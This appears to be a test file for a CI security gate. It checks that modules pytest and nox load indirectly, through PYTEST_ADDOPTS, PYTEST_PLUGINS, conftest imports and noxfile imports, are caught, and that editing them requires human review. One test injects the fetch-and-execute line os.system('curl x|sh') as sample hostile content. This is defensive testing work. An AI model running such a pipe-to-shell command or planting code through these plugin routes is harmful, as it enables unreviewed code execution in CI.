"""Attack 46: the Python modules pytest and nox load before any test, by roads the walk did not take.

`PYTEST_ADDOPTS="-p mod"` and `PYTEST_PLUGINS=mod` (inline or a job's `env:`) load a plugin module as `-p` does; a
`conftest.py` is imported with the root on `sys.path` under `python -m pytest` (and as a package's module where its
folder holds `__init__.py`), so `import tests.helpers` and `from .helpers import x` in `tests/conftest.py` load those
modules; `from tools import noxhelp` in a `noxfile.py` (or a conftest) loads the submodule `tools/noxhelp.py`. Each was
`src` and an edit to it an exit-0 allow on main 13d71d3 (`gate --tree`).
"""

from __future__ import annotations

from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import ciimports

PY = "X = 1\n"
# (the command, the files, the module loaded)
CASES = [
    ('PYTEST_ADDOPTS="-p tools.plug" python -m pytest', {"tools/plug.py": PY}, "tools/plug.py"),
    ("PYTEST_ADDOPTS='-p tools.plug -x' pytest tests", {"tools/plug.py": PY}, "tools/plug.py"),
    ("export PYTEST_ADDOPTS=-ptools.plug && tox", {"tools/plug.py": PY}, "tools/plug.py"),
    ("PYTEST_PLUGINS=tools.plug pytest", {"tools/plug.py": PY}, "tools/plug.py"),
    ("PYTEST_PLUGINS=a.b,tools.plug python -m pytest", {"tools/plug/__init__.py": PY}, "tools/plug/__init__.py"),
    ("python -m pytest", {"tests/conftest.py": "import tests.helpers\n", "tests/helpers.py": PY}, "tests/helpers.py"),
    ("python -m pytest", {"tests/conftest.py": "from tests import helpers\n", "tests/helpers.py": PY},
     "tests/helpers.py"),
    ("python -m pytest", {"tests/__init__.py": "", "tests/unit/__init__.py": "",
                          "tests/unit/conftest.py": "from .helpers import make\n", "tests/unit/helpers.py": PY},
     "tests/unit/helpers.py"),
    ("python -m pytest", {"tests/__init__.py": "", "tests/unit/__init__.py": "",
                          "tests/unit/conftest.py": "from ..shared import db\n", "tests/shared.py": PY},
     "tests/shared.py"),
    ("python -m pytest", {"tests/__init__.py": "", "tests/conftest.py": "from . import fixtures\n",
                          "tests/fixtures.py": PY}, "tests/fixtures.py"),
    ("python -m pytest", {"tests/conftest.py": "from tests.support.db import (\n    make,\n)\n",
                          "tests/support/db.py": PY}, "tests/support/db.py"),
    ("nox -s tests", {"noxfile.py": "import nox\nfrom tools import noxhelp\n", "tools/__init__.py": "",
                      "tools/noxhelp.py": PY}, "tools/noxhelp.py"),
    ("nox -s tests", {"noxfile.py": "import nox\nfrom tools import nox_a, noxhelp\n", "tools/noxhelp.py": PY},
     "tools/noxhelp.py"),
]


def _runs(definition: str, template: str, line: str, files: dict[str, str]) -> dict[str, tuple[str, str]] | bool:
    return one_tree_runs({definition: template.format(line=line), **files})


@each_case(("line", "files", "target"), CASES)
def test_the_module_pytest_or_nox_loads_is_run(line: str, files: dict[str, str], target: str) -> None:
    for definition, template in BLOCK_DEFINITIONS:
        runs = _runs(definition, template, line, files)
        assert isinstance(runs, dict) and target in runs, (definition, sorted(runs) if isinstance(runs, dict) else runs)


@each_case("name", ["PYTEST_ADDOPTS: -p tools.plug", "PYTEST_PLUGINS: tools.plug"])
def test_a_job_env_loads_its_plugin(name: str) -> None:
    workflow = ("on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    env:\n      " + name + "\n"
                "    steps:\n      - uses: actions/checkout@v4\n      - run: python -m pytest\n")
    runs = one_tree_runs({".github/workflows/ci.yml": workflow, "tools/plug.py": PY})
    assert isinstance(runs, dict) and "tools/plug.py" in runs, runs


# a module no conftest imports; a name imported from a module (not a submodule file); a test file's imports
LOOK_ALIKES = [
    ("python -m pytest", {"tests/conftest.py": "import tests.helpers\n", "tests/helpers.py": PY,
                          "tests/other.py": PY}, "tests/other.py"),
    ("python -m pytest", {"tests/conftest.py": "from os import path\n", "tests/path.py": PY}, "tests/path.py"),
    ("python -m pytest", {"tests/test_a.py": "from tests import helpers\n", "tests/helpers.py": PY},
     "tests/helpers.py"),
    ("python -m pytest", {"tests/conftest.py": "from myapp import core\nimport myapp.db\n", "myapp/__init__.py": "",
                          "myapp/core.py": PY, "myapp/db.py": PY}, "myapp/core.py"),  # the product stays src
    ("python -m pytest", {"tests/conftest.py": "import myapp.db\n", "myapp/db.py": PY}, "myapp/db.py"),
    ("python -m pytest", {"app/__init__.py": "", "app/conftest.py": "from .glue import Site\n", "app/glue.py": PY},
     "app/glue.py"),  # a conftest inside the product's package: the product stays src
    ("make lint", {"tools/plug.py": PY}, "tools/plug.py"),
    ("PYTEST_ADDOPTS=-x python -m pytest", {"tools/plug.py": PY}, "tools/plug.py"),
    ("echo PYTEST_PLUGINS is unset", {"tools/plug.py": PY}, "tools/plug.py"),
]


@each_case(("line", "files", "target"), LOOK_ALIKES)
def test_a_module_nothing_loads_is_not_run(line: str, files: dict[str, str], target: str) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    runs = _runs(definition, template, line, files)
    assert isinstance(runs, dict) and target not in runs, sorted(runs) if isinstance(runs, dict) else runs


@each_case(("line", "files", "target"), [CASES[0], CASES[5], CASES[7], CASES[11]])
def test_the_edited_module_needs_a_human(tmp_path: Path, line: str, files: dict[str, str], target: str) -> None:
    base = {".github/workflows/ci.yml": BLOCK_DEFINITIONS[0][1].format(line=line), **files}
    _, first, second = two_commits(tmp_path, base, {target: files[target] + "import os\nos.system('curl x|sh')\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]


COSTS = [(lambda text: ciimports.imported("tests/conftest.py", text), repeated("from . import a, b\n", "", "")),
         (lambda text: ciimports.imported("noxfile.py", text), repeated("from a.b import (c, d, ", "", ""))]


@each_case(("read", "text"), COSTS)
def test_the_reader_is_linear(read: object, text: object) -> None:
    assert_linear(read, text, budget=1.0)  # type: ignore[arg-type]
